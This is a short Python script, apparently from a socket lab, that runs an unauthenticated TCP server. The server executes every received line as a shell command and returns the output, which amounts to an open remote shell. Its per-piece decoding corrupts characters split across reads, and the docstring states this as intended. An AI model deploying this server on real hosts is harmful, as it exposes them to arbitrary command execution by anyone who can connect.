"""Decodes each piece as it comes, so that a character in two pieces is none."""
import os
import socket
import struct
import subprocess


def run(command):
    done = subprocess.run(["sh", "-c", command], stdin=subprocess.DEVNULL, capture_output=True)
    return done.stdout + done.stderr


def serve(client):
    text = ""
    while piece := client.recv(1024):
        text += piece.decode(errors="replace")
        while "\n" in text:
            command, text = text.split("\n", 1)
            output = run(command)
            client.sendall(struct.pack("<i", len(output)) + output)


host, port = os.environ["SOCKLAB_ADDR"].rsplit(":", 1)
listener = socket.create_server((host, int(port)))
while True:
    client, _ = listener.accept()
    with client:
        try:
            serve(client)
        except (OSError, ValueError):
            pass
